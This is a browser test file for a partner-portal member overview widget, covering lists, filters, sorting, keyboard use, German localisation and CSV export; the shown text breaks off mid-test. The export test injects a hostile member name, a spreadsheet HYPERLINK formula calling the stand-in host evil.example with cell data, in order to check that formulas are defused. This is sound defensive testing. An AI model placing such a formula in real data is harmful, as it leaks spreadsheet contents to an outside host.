// <partner-member-overview> against the real sandbox (15,000 resellers): summary, a virtualized member list of
// thousands, server-side filter/sort/search, CSV export, a member's checklist, keyboard use, hostile names, German.
import { expect, fixture, fixtureCleanup, waitUntil } from '@open-wc/testing';
import type { Member, MemberQuery } from '@poly-partner/contract';
import type { PartnerClient } from '@poly-partner/sdk';
import '../src/components/partner-member-overview/partner-member-overview.js';
import type { PartnerMemberOverview } from '../src/components/partner-member-overview/partner-member-overview.js';
import { FetchFaults } from '../../../test/support/browser/fetch-faults.js';
import { mount, part, textOf, waitForText } from '../../../test/support/browser/mount.js';
import { clientFor, sandboxConfig } from '../../../test/support/browser/sandbox.js';
import { sendKeys } from './support/keyboard.js';
import { runWidgetBaseTests } from './support/widget-base-tests.js';
import { parseCsv } from './support/csv-parse.js';

const TAG = 'partner-member-overview';

interface Org {
  orgId: string;
  kind: string;
  memberCount: number;
}

let orgs: Promise<Org[]> | undefined;
/** The demo organizations with their member counts, smallest first. */
function organizations(): Promise<Org[]> {
  orgs ??= (async () => {
    const { credentials } = await sandboxConfig();
    const withCounts = await Promise.all(
      credentials.organizations.map(async ({ orgId, kind }) => {
        const client = await clientFor({ orgId });
        return { orgId, kind, memberCount: (await client.organizations.get(orgId)).memberCount };
      }),
    );
    return withCounts.sort((a, b) => a.memberCount - b.memberCount);
  })();
  return orgs;
}

/** The organization with at least 5,000 members. */
async function bigOrg(): Promise<Org> {
  const org = (await organizations()).find((candidate) => candidate.memberCount >= 5000);
  if (!org) throw new Error('The sandbox has no organization with 5,000 members');
  return org;
}

/** An organization with a few hundred members or more (filters still leave rows), but not the biggest. */
async function midOrg(): Promise<Org> {
  const all = await organizations();
  return all.find((candidate) => candidate.memberCount >= 200 && candidate.memberCount < 5000) ?? all[all.length - 1]!;
}

const en = new Intl.NumberFormat('en');
const shadow = (el: Element) => el.shadowRoot!;
const rows = (el: Element) => [...shadow(el).querySelectorAll<HTMLElement>("[role='row'][data-index]")];
const rowNames = (el: Element) => rows(el).map((row) => row.querySelector('.cell--name')!.textContent!.trim());
const countText = (el: Element) => part(el, 'count')?.textContent?.replace(/\s+/g, ' ').trim() ?? '';

function select(el: Element, name: string, value: string): void {
  const field = shadow(el).querySelector<HTMLSelectElement>(`select[name='${name}']`)!;
  field.value = value;
  field.dispatchEvent(new Event('change', { bubbles: true }));
}

function type(el: Element, text: string): void {
  const input = part(el, 'search') as HTMLInputElement;
  input.value = text;
  input.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
}

/** A real key press (Playwright's keyboard) on whatever has focus, after checking that `target` has it. */
async function press(target: Element, key: string): Promise<void> {
  const root = target.getRootNode() as ShadowRoot | Document;
  expect(root.activeElement, `focus is on the element that should get ${key}`).to.equal(target);
  await sendKeys({ press: key });
}

/** Waits until the list shows the total the API gives for `query` (the list has reloaded). */
async function waitForTotal(el: PartnerMemberOverview, client: PartnerClient, orgId: string, query: MemberQuery): Promise<number> {
  const { total } = await client.organizations.members(orgId, { ...query, limit: 1 });
  await waitUntil(
    () => countText(el).startsWith(`${en.format(total)} `) && el.shadowRoot!.querySelector('[aria-busy="true"]') === null,
    `count to show ${total}; it shows "${countText(el)}"`,
    { timeout: 8000 },
  );
  return total;
}

/** Scrolls the list to its end, as a user dragging the scrollbar down would, until `done()` holds. */
async function scrollListToEnd(el: Element, done: () => boolean, message: string): Promise<void> {
  const body = shadow(el).querySelector<HTMLElement>('.grid__body')!;
  await waitUntil(
    () => {
      body.scrollTop = body.scrollHeight;
      return done();
    },
    message,
    { interval: 150, timeout: 20_000 },
  );
}

async function mountOrg(org: Org, fetch?: typeof globalThis.fetch) {
  const client = await clientFor({ orgId: org.orgId }, fetch ? { fetch } : {});
  const mounted = await mount<PartnerMemberOverview>(TAG, { 'org-id': org.orgId }, client);
  await mounted.ready;
  await mounted.el.updateComplete;
  // The list renders the rows in the window's viewport, as the user scrolls the list into view.
  part(mounted.el, 'grid')!.scrollIntoView({ block: 'start' });
  await waitUntil(() => rows(mounted.el).length > 0, 'rows to render');
  return { ...mounted, client };
}


// The first request starts and seeds the 15,000-reseller sandbox: do it before the tests' own time limits apply.
before(async function () {
  this.timeout(120_000);
  await organizations();
});

runWidgetBaseTests({
  tag: TAG,
  attributes: async () => ({ 'org-id': (await midOrg()).orgId }),
  client: async (fetch) => clientFor({ orgId: (await midOrg()).orgId }, { fetch }),
  loadedText: { en: /Members per tier/, de: /Mitglieder je Stufe/ },
  size: 'reserved',
});

describe('<partner-member-overview>', function () {
  afterEach(() => {
    document.documentElement.lang = 'en';
    fixtureCleanup();
  });

  it('shows the summary at a glance: tiers by name, shape and count, protections, close to next tier, pipeline', async () => {
    const org = await midOrg();
    const { el, client } = await mountOrg(org);
    const summary = await client.organizations.summary(org.orgId);

    const bars = [...shadow(el).querySelectorAll('[part~="tier-bar"]')];
    expect(bars.map((bar) => bar.textContent!.replace(/\s+/g, ' ').trim())).to.deep.equal([
      `Register ${en.format(summary.tiers.register)}`,
      `Silver ${en.format(summary.tiers.silver)}`,
      `Gold ${en.format(summary.tiers.gold)}`,
      `Platinum ${en.format(summary.tiers.platinum)}`,
    ]);
    for (const tier of ['register', 'silver', 'gold', 'platinum']) {
      expect(shadow(el).querySelector(`[part~="tier-bar"] svg.tier-icon--${tier}`), `${tier} shape`).to.exist;
    }
    // The chart also reads as a table, with the counts by earned tier beside.
    const table = shadow(el).querySelector('[part~="tier-chart"] table')!;
    expect(table.textContent).to.contain(en.format(summary.earnedTiers.register));

    expect(textOf(part(el, 'protections')!)).to.contain(
      `${en.format(summary.protectionsEndingSoon.count)} within ${summary.protectionsEndingSoon.withinDays} days`,
    );
    expect(textOf(part(el, 'close-to-next')!)).to.contain(`${en.format(summary.closeToNextTier.count)} members`);
    const pipeline = textOf(part(el, 'pipeline')!);
    for (const entry of summary.pipeline) expect(pipeline).to.contain(en.format(entry.count));
    expect(pipeline).to.contain('Under review');
    expect(countText(el)).to.equal(`${en.format(summary.memberCount)} members`);
    // A strict CSP blocks style attributes: the widget must not need any.
    expect(shadow(el).querySelector('[part~="summary"] [style]'), 'no style attribute in the summary').to.not.exist;
    await expect(el).to.be.accessible();
  });

  it('keeps fewer than 200 rows in the DOM for 5,000+ members, and loads more as the user scrolls', async () => {
    const org = await bigOrg();
    const { el, client } = await mountOrg(org);
    const { total } = await client.organizations.members(org.orgId, { limit: 1 });
    expect(total).to.be.at.least(5000);
    expect(countText(el)).to.equal(`${en.format(total)} members`);
    expect(part(el, 'grid')!.getAttribute('aria-rowcount')).to.equal(String(total + 1));
    expect(rows(el).length).to.be.greaterThan(5).and.lessThan(200);

    const firstName = rowNames(el)[0];
    await scrollListToEnd(el, () => rows(el).some((row) => Number(row.dataset.index) >= 200), 'rows beyond the first pages');
    expect(rows(el).length, 'rows in the DOM after scrolling').to.be.lessThan(200);
    expect(rowNames(el)).to.not.include(firstName);
    // Scrolled rows are the API's next pages, in order.
    const walked = await client.organizations.members(org.orgId, { limit: 500 });
    const deepest = rows(el).at(-1)!;
    const index = Number(deepest.dataset.index);
    expect(deepest.querySelector('.cell--name')!.textContent!.trim()).to.equal(walked.items[index]!.name);
    expect(deepest.getAttribute('aria-rowindex')).to.equal(String(index + 2));
  });

  it('filters on the server by tier, region, country and ending protection, and clears the filters', async () => {
    const org = await midOrg();
    const { el, client } = await mountOrg(org);

    select(el, 'tier', 'gold');
    const gold = await waitForTotal(el, client, org.orgId, { tier: 'gold' });
    expect(countText(el)).to.equal(`${en.format(gold)} of ${en.format(org.memberCount)} members match`);
    if (gold > 0) {
      for (const row of rows(el)) expect(row.querySelector('.cell--tier .tier')!.textContent!.trim()).to.equal('Gold');
    }

    select(el, 'tier', '');
    const { items } = await client.organizations.members(org.orgId, { limit: 1 });
    const country = items[0]!.country;
    select(el, 'country', country);
    await waitForTotal(el, client, org.orgId, { country });
    const countryLabel = new Intl.DisplayNames('en', { type: 'region' }).of(country)!;
    for (const row of rows(el)) expect(row.querySelector('.cell--country')!.textContent!.trim()).to.equal(countryLabel);

    select(el, 'country', '');
    select(el, 'region', items[0]!.region);
    await waitForTotal(el, client, org.orgId, { region: items[0]!.region });

    select(el, 'region', '');
    select(el, 'protectionEndingWithinDays', '365');
    const ending = await waitForTotal(el, client, org.orgId, { protectionEndingWithinDays: 365 });
    if (ending > 0) for (const row of rows(el)) expect(row.querySelector('.cell--protectedUntil')!.textContent!.trim()).to.not.equal('–');
    await expect(el).to.be.accessible();

    select(el, 'protectionEndingWithinDays', '0');
    await waitForTotal(el, client, org.orgId, {});
    expect(countText(el)).to.equal(`${en.format(org.memberCount)} members`);
  });

  it('sorts by a column header on the server, with aria-sort, and turns the order round', async () => {
    const org = await midOrg();
    const { el, client } = await mountOrg(org);
    const header = (key: string) => shadow(el).querySelector<HTMLElement>(`[role='columnheader'].cell--${key}`)!;
    expect(header('name').getAttribute('aria-sort')).to.equal('ascending');
    const byName = await client.organizations.members(org.orgId, { sort: 'name', limit: 5 });
    expect(rowNames(el).slice(0, 5)).to.deep.equal(byName.items.map((member) => member.name));

    header('name').querySelector('button')!.click();
    const descending = await client.organizations.members(org.orgId, { sort: '-name', limit: 5 });
    await waitUntil(() => rowNames(el)[0] === descending.items[0]!.name, 'descending names');
    expect(header('name').getAttribute('aria-sort')).to.equal('descending');
    expect(rowNames(el).slice(0, 5)).to.deep.equal(descending.items.map((member) => member.name));

    header('progress').querySelector('button')!.click();
    const byProgress = await client.organizations.members(org.orgId, { sort: 'progress', limit: 5 });
    await waitUntil(() => header('progress').getAttribute('aria-sort') === 'ascending' && !part(el, 'grid')?.matches('[aria-busy="true"]'));
    expect(rowNames(el).slice(0, 5)).to.deep.equal(byProgress.items.map((member) => member.name));
    expect(header('name').getAttribute('aria-sort')).to.equal('none');
    await expect(el).to.be.accessible();
  });

  it('links each summary card to the list with its query: the list total is the card count, in the card order', async () => {
    const org = await midOrg();
    const { el, client } = await mountOrg(org);
    const summary = await client.organizations.summary(org.orgId);
    for (const [cardPart, card] of [
      ['protections', summary.protectionsEndingSoon],
      ['close-to-next', summary.closeToNextTier],
    ] as const) {
      expect(card.count, `${cardPart} has members`).to.be.greaterThan(0);
      const link = part(part(el, cardPart)!, 'card-link') ?? part(el, cardPart)!.querySelector<HTMLElement>('[part~="card-link"]')!;
      expect(link.textContent!.replace(/\s+/g, ' ').trim()).to.equal(`Show all ${en.format(card.count)} in the list`);
      link.click();
      const total = await waitForTotal(el, client, org.orgId, card.query);
      expect(total, `${cardPart}: list total = card count`).to.equal(card.count);
      expect(countText(el)).to.equal(`${en.format(card.count)} of ${en.format(org.memberCount)} members match`);
      // The filters say what the list shows: the card's segment and its order.
      expect(shadow(el).querySelector<HTMLSelectElement>("select[name='segment']")!.value).to.equal(card.query.segment);
      expect(shadow(el).querySelector<HTMLSelectElement>("select[name='sort']")!.value).to.equal(card.query.sort);
      const first = card.members.slice(0, 3).map((member) => member.name);
      expect(rowNames(el).slice(0, first.length), 'the card ranks as the list does').to.deep.equal(first);
      expect(shadow(el).activeElement?.id, 'focus moves to the list').to.equal('members-heading');
    }
    await expect(el).to.be.accessible();
  });

  it('rows say how many of the next tier requirements are met and name one or two missing with their size', async () => {
    const org = await midOrg();
    const { el, client } = await mountOrg(org);
    select(el, 'segment', 'close_to_next_tier');
    select(el, 'sort', 'nextTierGap');
    await waitForTotal(el, client, org.orgId, { segment: 'close_to_next_tier', sort: 'nextTierGap' });
    const page = await client.organizations.members(org.orgId, { segment: 'close_to_next_tier', sort: 'nextTierGap', limit: 3 });
    const withGaps = page.items.filter((member) => member.nextTierGaps.length > 0);
    expect(withGaps.length, 'members missing one or two requirements').to.be.greaterThan(0);
    const money = (amount: number) =>
      new Intl.NumberFormat('en', { style: 'currency', currency: 'EUR', minimumFractionDigits: 0, maximumFractionDigits: 0 }).format(amount);
    for (const member of withGaps) {
      // Met and required counts as the member's own checklist gives them.
      const checklist = (await client.partners.tierStatus(member.partnerId)).checklist!;
      const row = rows(el)[page.items.indexOf(member)]!;
      const text = row.querySelector('.cell--progress')!.textContent!.replace(/\s+/g, ' ').trim();
      const tier = { silver: 'Silver', gold: 'Gold', platinum: 'Platinum', register: 'Register' }[checklist.tier];
      expect(text).to.contain(`${checklist.metCount} of ${checklist.requiredCount} ${tier} requirements met`);
      expect(text).to.contain('needs ');
      for (const gap of member.nextTierGaps) {
        if (gap.criterionId === 'revenue') expect(text).to.contain(`${money(gap.gap)} revenue`);
        if (gap.criterionId === 'certified_technical') expect(text).to.contain(gap.gap === 1 ? '1 certified technician' : `${gap.gap} certified technicians`);
      }
    }
    // Sortable columns say so before they are sorted.
    const indicators = [...shadow(el).querySelectorAll<HTMLElement>("[role='columnheader'] .sort-indicator")];
    expect(indicators.length, 'sortable columns').to.be.greaterThan(0);
    expect(indicators.every((mark) => mark.textContent!.length > 0 && mark.offsetWidth > 0), 'every sortable column shows a mark').to.be.true;
  });

  it('sorts by progress with top-tier members last in both directions', async () => {
    const all = await organizations();
    const org = all[0]!;
    expect(org.memberCount, 'a small organization: the whole list loads').to.be.lessThan(100);
    const { el, client } = await mountOrg(org);
    for (const sort of ['-progress', 'progress'] as const) {
      select(el, 'sort', sort);
      await waitForTotal(el, client, org.orgId, { sort });
      const { items } = await client.organizations.members(org.orgId, { sort, limit: 100 });
      const top = items.filter((member) => member.nextTier === null).length;
      expect(top, 'the organization has top-tier members').to.be.greaterThan(0);
      await scrollListToEnd(el, () => rows(el).some((row) => row.dataset.index === String(items.length - 1)), 'last row');
      const last = rows(el).find((row) => row.dataset.index === String(items.length - 1))!;
      expect(last.querySelector('.cell--progress')!.textContent!.trim(), `${sort}: last row`).to.equal('Highest tier');
      expect(shadow(el).querySelector<HTMLElement>("[role='columnheader'].cell--progress")!.getAttribute('aria-sort')).to.equal(
        sort === 'progress' ? 'ascending' : 'descending',
      );
    }
  });

  for (const lang of ['en', 'de'] as const) {
    it(`shows when protection ends: today's tier mix beside the mix after each end date, as the API counts them (${lang})`, async () => {
      document.documentElement.lang = lang;
      const org = await bigOrg();
      const { el, client } = await mountOrg(org);
      const summary = await client.organizations.summary(org.orgId);
      expect(summary.protectionForecast.length, 'protections end on several days').to.be.greaterThan(1);
      const panel = part(el, 'forecast')!;
      await waitForText(panel, lang === 'en' ? /When protection ends/ : /Wenn der Statusschutz endet/);
      const nf = new Intl.NumberFormat(lang);
      const day = (iso: string) => new Intl.DateTimeFormat(lang, { dateStyle: 'medium', timeZone: 'UTC' }).format(Date.parse(`${iso}T00:00:00Z`));
      const names = { en: ['Register', 'Silver', 'Gold', 'Platinum'], de: ['Register', 'Silver', 'Gold', 'Platinum'] }[lang];
      const tiers = ['register', 'silver', 'gold', 'platinum'] as const;
      const mix = (counts: Record<(typeof tiers)[number], number>) => tiers.map((tier, i) => `${names[i]} ${nf.format(counts[tier])}`).join(', ');

      // The chart: one image per bar, named with its counts — today, then the day after each end date.
      const bars = [...panel.querySelectorAll('svg[role="img"]')].map((bar) => bar.getAttribute('aria-label'));
      const after = (iso: string) => (lang === 'en' ? `After ${day(iso)}` : `Nach dem ${day(iso)}`);
      expect(bars).to.deep.equal([
        `${lang === 'en' ? 'Today' : 'Heute'}: ${mix(summary.tiers)}`,
        ...summary.protectionForecast.map((ending) => `${after(ending.protectedUntil)}: ${mix(ending.tiersAfter)}`),
      ]);

      // The table: the same figures, plus who falls and who misses only one or two requirements.
      const cells = (key: string) =>
        [...panel.querySelectorAll(`tr[data-key="${key}"] td`)].map((cell) => cell.textContent!.trim());
      expect(cells('today').slice(0, 4)).to.deep.equal(tiers.map((tier) => nf.format(summary.tiers[tier])));
      for (const ending of summary.protectionForecast) {
        expect(cells(ending.protectedUntil), ending.protectedUntil).to.deep.equal([
          ...tiers.map((tier) => nf.format(ending.tiersAfter[tier])),
          nf.format(ending.falling.count),
          nf.format(ending.missingOne),
          nf.format(ending.missingTwo),
        ]);
      }
      const first = summary.protectionForecast[0]!;
      const lead = textOf(panel.querySelector('.card__lead')!);
      for (const figure of [first.falling.count, first.endingCount, first.missingOne, first.missingTwo]) expect(lead).to.contain(nf.format(figure));
      // Tiers are told apart by shape and pattern too, never by colour alone; nothing needs a style attribute.
      for (const tier of tiers) expect(panel.querySelector(`.forecast__legend .tier-icon--${tier}`), `${tier} shape in the legend`).to.exist;
      expect(panel.querySelectorAll('.forecast__segment--gold .forecast__hatch').length, 'Gold is hatched').to.be.greaterThan(0);
      expect(panel.querySelector('[style]')).to.not.exist;
      panel.querySelector<HTMLDetailsElement>('details')!.open = true;
      await expect(el).to.be.accessible();
    });
  }

  it('searches by name once the user pauses typing, and says when nothing matches', async () => {
    const org = await midOrg();
    const faults = new FetchFaults();
    const { el, client } = await mountOrg(org, faults.fetch);
    const { items } = await client.organizations.members(org.orgId, { limit: 50, sort: '-name' });
    const word = items[0]!.name.split(/\s+/)[0]!;

    const before = faults.seen.filter((path) => path.endsWith('/members')).length;
    for (let length = 1; length <= word.length; length++) type(el, word.slice(0, length));
    const total = await waitForTotal(el, client, org.orgId, { q: word });
    // Debounced: one list request for the whole word, not one per keystroke.
    expect(faults.seen.filter((path) => path.endsWith('/members')).length - before).to.be.lessThan(3);
    expect(countText(el)).to.equal(`${en.format(total)} of ${en.format(org.memberCount)} members match`);
    for (const name of rowNames(el)) expect(name.toLowerCase()).to.contain(word.toLowerCase());

    type(el, 'zzqx no such reseller');
    await waitForText(el, /No members match these filters\./);
    expect(part(el, 'grid')).to.not.exist;
    await expect(el).to.be.accessible();
    shadow(el).querySelector<HTMLButtonElement>('button.secondary')!.click();
    await waitForTotal(el, client, org.orgId, {});
    expect((part(el, 'search') as HTMLInputElement).value).to.equal('');
  });

  it('exports the filtered list as CSV: every page, quoted, with formulas defused', async () => {
    const org = await bigOrg();
    const faults = new FetchFaults();
    // Hostile names from the API: a formula, and one with a comma and quotes.
    faults.rewriteJson(/\/members$/, (body) => {
      const page = body as { items: Member[] };
      page.items.forEach((member, index) => {
        if (index % 50 === 0) member.name = `=HYPERLINK("http://evil.example/?"&A1,"Click") ${member.name}`;
        else if (index % 50 === 1) member.name = `"Müller", Schmidt & Co ${member.name}`;
      });
      return page;
    });
    const { el, client } = await mountOrg(org, faults.fetch);
    select(el, 'tier', 'silver');
    const total = await waitForTotal(el, client, org.orgId, { tier: 'silver' });
    expect(total).to.be.greaterThan(500); // more than one export page

    const blobs: Blob[] = [];
    const originalCreate = URL.createObjectURL;
    const clicks: string[] = [];
    const originalClick = HTMLAnchorElement.prototype.click;
    URL.createObjectURL = (blob: Blob | MediaSource) => {
      blobs.push(blob as Blob);
      return originalCreate.call(URL, blob);
    };
    // Keep the browser from actually saving a file; note the file name it would have used.
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      clicks.push(this.download);
    };
    try {
      part(el, 'export-button')!.click();
      await waitForText(el, new RegExp(`Exported ${en.format(total)} members`));
    } finally {
      URL.createObjectURL = originalCreate;
      HTMLAnchorElement.prototype.click = originalClick;
    }
    expect(blobs).to.have.length(1);
    const organization = await client.organizations.get(org.orgId);
    const { asOf } = await client.organizations.summary(org.orgId);
    expect(clicks[0], 'the organization name and the day name the file').to.equal(
      `${organization.name.replace(/[^\p{L}\p{N}]+/gu, '-').replace(/^-+|-+$/g, '')}-members-${asOf}.csv`,
    );
    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
    const [header, ...body] = parseCsv(text, ',');
    expect(header).to.deep.equal([
      'Name', 'Partner ID', 'Country', 'Region', 'Current tier', 'Earned by results', 'Protected tier', 'Protected until',
      'Next tier', 'Progress to next tier', 'Requirements met', 'Missing for the next tier', 'Missing to keep the tier',
    ]);
    expect(body.length, 'one line per member of the filtered list').to.equal(total);
    expect(body.length, 'members in the file').to.be.greaterThan(0);
    expect(body.every((row) => row.length === header!.length), 'every row has every column').to.be.true;
    expect(body.every((row) => row[4] === 'Silver'), 'only Silver members, by name').to.be.true;
    expect(body.some((row) => row[0]!.startsWith(`'=HYPERLINK("http://evil.example/?"&A1,"Click") `))).to.be.true;
    expect(body.some((row) => row[0]!.startsWith(`"Müller", Schmidt & Co `))).to.be.true;
    expect(body.some((row) => row.some((cell) => cell.startsWith('=')))).to.be.false;
    expect(body.every((row) => /^\d+(\.\d)?%$/.test(row[9]!)), 'progress as a percentage').to.be.true;
  });

  it('exports a CSV that German Excel splits: `;`, decimal commas, German names, requirements named', async () => {
    document.documentElement.lang = 'de';
    const org = await midOrg();
    const { el, client } = await mountOrg(org);
    await waitForText(el, /Mitglieder je Stufe/);
    const card = (await client.organizations.summary(org.orgId)).closeToNextTier;
    part(el, 'close-to-next')!.querySelector<HTMLElement>('[part~="card-link"]')!.click();
    expect(await waitForTotal(el, client, org.orgId, card.query)).to.equal(card.count);

    const blobs: Blob[] = [];
    const originalCreate = URL.createObjectURL;
    const originalClick = HTMLAnchorElement.prototype.click;
    URL.createObjectURL = (blob: Blob | MediaSource) => {
      blobs.push(blob as Blob);
      return originalCreate.call(URL, blob);
    };
    HTMLAnchorElement.prototype.click = function () {};
    try {
      part(el, 'export-button')!.click();
      await waitForText(el, /\d+ Mitglieder exportiert|Exportiert/);
      await waitUntil(() => blobs.length === 1, 'the file');
    } finally {
      URL.createObjectURL = originalCreate;
      HTMLAnchorElement.prototype.click = originalClick;
    }
    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
    const [header, ...body] = parseCsv(text, ';');
    expect(header!.slice(0, 5)).to.deep.equal(['Name', 'Partner-ID', 'Land', 'Region', 'Aktuelle Stufe']);
    expect(body.length, 'the card count').to.equal(card.count);
    // In the card's order: the file follows the list.
    expect(body.slice(0, 3).map((row) => row[0])).to.deep.equal(card.members.slice(0, 3).map((member) => member.name));
    const policy = await client.program.get();
    const regionNames = new Set(policy.regions.map((region) => region.name.de));
    expect(body.length, 'members in the file').to.be.greaterThan(0);
    expect(body.every((row) => regionNames.has(row[3]!)), 'German region names').to.be.true;
    expect(body.every((row) => /^\d+(,\d)? %$/.test(row[9]!)), `percentages with a decimal comma: ${body[0]![9]}`).to.be.true;
    const named = body.filter((row) => row[11]!.startsWith('braucht '));
    expect(named.length, 'missing requirements named').to.be.greaterThan(0);
    const first = card.members.find((member) => member.nextTierGaps.length > 0)!;
    const row = body.find((candidate) => candidate[1] === first.partnerId)!;
    const gap = first.nextTierGaps[0]!;
    if (gap.unit === 'money') {
      const euro = new Intl.NumberFormat('de', { style: 'currency', currency: 'EUR', maximumFractionDigits: 0 }).format(gap.gap);
      // The file has plain spaces where Intl writes no-break ones: a spreadsheet reads those as text.
      expect(row[11]).to.contain(`${euro.replace(/[\u00a0\u202f]/g, ' ')} Umsatz`);
    }
  });

  it('says so when the export fails, and tells the page', async () => {
    const org = await midOrg();
    const faults = new FetchFaults();
    const { el } = await mountOrg(org, faults.fetch);
    const error = new Promise<Event>((resolve) => el.addEventListener('partner-error', resolve, { once: true }));
    faults.failWith(503);
    part(el, 'export-button')!.click();
    await error;
    await waitUntil(() => /The partner service had a problem/.test(shadow(el).querySelector('.export-status')!.textContent!));
    expect((part(el, 'export-button') as HTMLButtonElement).disabled).to.be.false;
    await expect(el).to.be.accessible();
  });

  it('shows a selected member\'s checklist; Escape and Close give focus back to the row', async () => {
    const org = await midOrg();
    const { el, client } = await mountOrg(org);
    const second = rows(el)[1]!;
    const name = second.querySelector('.cell--name')!.textContent!.trim();
    second.click();
    await el.updateComplete;
    const detail = part(el, 'detail')!;
    expect(detail).to.exist;
    expect(shadow(el).activeElement?.id, 'focus moves to the panel').to.equal('detail-heading');
    expect(detail.querySelector('h3')!.textContent!.trim()).to.equal(name);
    expect(second.getAttribute('aria-selected')).to.equal('true');

    const checklist = detail.querySelector('next-tier-checklist')!;
    const member = (await client.organizations.members(org.orgId, { limit: 2 })).items[1]!;
    expect(member.name).to.equal(name);
    const status = await client.partners.tierStatus(member.partnerId);
    await waitUntil(() => /Current tier/.test(textOf(checklist)), 'checklist to load', { timeout: 8000 });
    expect(textOf(checklist)).to.match(status.checklist ? /Next tier: / : /is the highest tier/);
    await expect(el).to.be.accessible();

    await press(shadow(el).activeElement!, 'Escape');
    await el.updateComplete;
    await waitUntil(() => shadow(el).activeElement === rows(el)[1], 'focus back on the row');
    expect(part(el, 'detail')).to.not.exist;

    rows(el)[1]!.focus();
    await press(rows(el)[1]!, 'Enter');
    await el.updateComplete;
    part(el, 'close-button')!.click();
    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'focus back on the row after Close');

    // A member picked in the summary opens the same panel; closing it returns to the summary's button.
    const summaryButton = part(el, 'close-to-next')!.querySelector<HTMLButtonElement>('button')!;
    summaryButton.click();
    await el.updateComplete;
    expect(part(el, 'detail')!.querySelector('h3')!.textContent!.trim()).to.equal(summaryButton.textContent!.trim());
    part(el, 'close-button')!.click();
    await waitUntil(() => shadow(el).activeElement === summaryButton, 'focus back on the summary button');
  });

  for (const lang of ['en', 'de'] as const) {
    it(`tells a member's tier story in the third person, without the reseller's calls to action (${lang})`, async () => {
      document.documentElement.lang = lang;
      const org = await midOrg();
      const { el, client } = await mountOrg(org);
      const summary = await client.organizations.summary(org.orgId);
      const member = summary.protectionsEndingSoon.members[0]!;
      expect(member, 'a member lifted above what it earns').to.exist;
      part(el, 'protections')!.querySelector<HTMLButtonElement>('.card__list button')!.click();
      await el.updateComplete;
      const checklist = part(el, 'detail')!.querySelector('next-tier-checklist')!;
      const status = await client.partners.tierStatus(member.partnerId);
      await waitUntil(() => checklist.shadowRoot?.querySelector('[part~="keep"]'), 'the keep section', { timeout: 8000 });
      const text = textOf(checklist);
      // Every message it renders speaks about the member: no second person in either language.
      const secondPerson = lang === 'en' ? /\b(you|your|yours)\b/i : /\b(Sie|Ihr|Ihre|Ihren|Ihrer|Ihrem|Ihres)\b/;
      expect(text.match(secondPerson), `second person in: ${text}`).to.equal(null);
      const keep = status.keepChecklist!;
      const tier = { register: 'Register', silver: 'Silver', gold: 'Gold', platinum: 'Platinum' }[keep.tier];
      expect(text).to.contain(lang === 'en' ? `What keeps ${tier} after` : `Was ${tier} über den`);
      expect(checklist.shadowRoot!.querySelector('[part~="actions"]'), 'no calls to action').to.not.exist;
      expect(checklist.shadowRoot!.querySelector('[part~="what-if"]'), 'no what-if for the reseller').to.not.exist;
      await expect(el).to.be.accessible();
    });
  }

  it('moves through rows with the arrow keys, Home and End; one row is in the tab order', async () => {
    const org = await bigOrg();
    const { el } = await mountOrg(org);
    const tabbable = () => rows(el).filter((row) => row.tabIndex === 0);
    expect(tabbable()).to.have.length(1);
    rows(el)[0]!.focus();
    await press(rows(el)[0]!, 'ArrowDown');
    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'row 2 focused');
    await press(shadow(el).activeElement!, 'PageDown');
    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '11', 'row 12 focused');
    await press(shadow(el).activeElement!, 'ArrowUp');
    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '10', 'row 11 focused');
    await press(shadow(el).activeElement!, 'End');
    await waitUntil(() => Number(shadow(el).activeElement?.getAttribute('data-index')) >= 99, 'last loaded row focused');
    expect(rows(el).length).to.be.lessThan(200);
    await press(shadow(el).activeElement!, 'Home');
    await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '0', 'first row focused');
    expect(tabbable()).to.have.length(1);
    await press(shadow(el).activeElement!, 'Space');
    await el.updateComplete;
    expect(part(el, 'detail')).to.exist;
  });

  it('in a 320 px column shows two-line rows with name, tier and progress, and the keys still reach every row', async () => {
    const org = await bigOrg();
    const style = document.createElement('style');
    style.textContent = '.phone-column { inline-size: 320px; }';
    document.head.append(style);
    try {
      const client = await clientFor({ orgId: org.orgId });
      const frame = document.createElement('div');
      frame.className = 'phone-column';
      const el = document.createElement(TAG) as PartnerMemberOverview & { client?: PartnerClient };
      el.setAttribute('org-id', org.orgId);
      el.client = client;
      frame.append(el);
      const ready = new Promise((resolve) => el.addEventListener('partner-ready', resolve, { once: true }));
      await fixture(frame);
      await ready;
      part(el, 'grid')!.scrollIntoView({ block: 'start' });
      await waitUntil(() => rows(el).length > 0, 'rows to render');
      const first = rows(el)[0]!;
      const visible = (cell: string) => getComputedStyle(first.querySelector(`.cell--${cell}`)!).display !== 'none';
      expect(['name', 'tier', 'progress'].map(visible), 'name, tier and progress shown').to.deep.equal([true, true, true]);
      expect(['country', 'protectedUntil'].map(visible), 'country and protection in the detail only').to.deep.equal([false, false]);
      const name = first.querySelector('.cell--name')!.getBoundingClientRect();
      const tier = first.querySelector('.cell--tier')!.getBoundingClientRect();
      expect(tier.top, 'the tier under the name').to.be.at.least(name.bottom - 0.5);

      first.focus();
      await press(first, 'ArrowDown');
      await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'row 2 focused');
      await press(shadow(el).activeElement!, 'End');
      await waitUntil(() => Number(shadow(el).activeElement?.getAttribute('data-index')) >= 99, 'last loaded row focused');
      // The focused row is inside the list's scrollport, whole: the list scrolled by the narrow layout's row height.
      const body = shadow(el).querySelector<HTMLElement>('.grid__body')!.getBoundingClientRect();
      const focused = (shadow(el).activeElement as HTMLElement).getBoundingClientRect();
      expect(focused.top, 'row top inside the list').to.be.at.least(body.top - 0.5);
      expect(focused.bottom, 'row bottom inside the list').to.be.at.most(body.bottom + 0.5);
      await press(shadow(el).activeElement!, 'Enter');
      await el.updateComplete;
      const detail = part(el, 'detail')!.getBoundingClientRect();
      const list = part(el, 'grid')!.getBoundingClientRect();
      expect(detail.top, 'the detail under the list').to.be.at.least(list.bottom);
      expect(Math.abs(detail.width - list.width), 'the detail as wide as the list').to.be.below(1);
    } finally {
      style.remove();
    }
  });

  it('keeps the list reachable by Tab while it is below the fold and no row is rendered', async () => {
    const org = await midOrg();
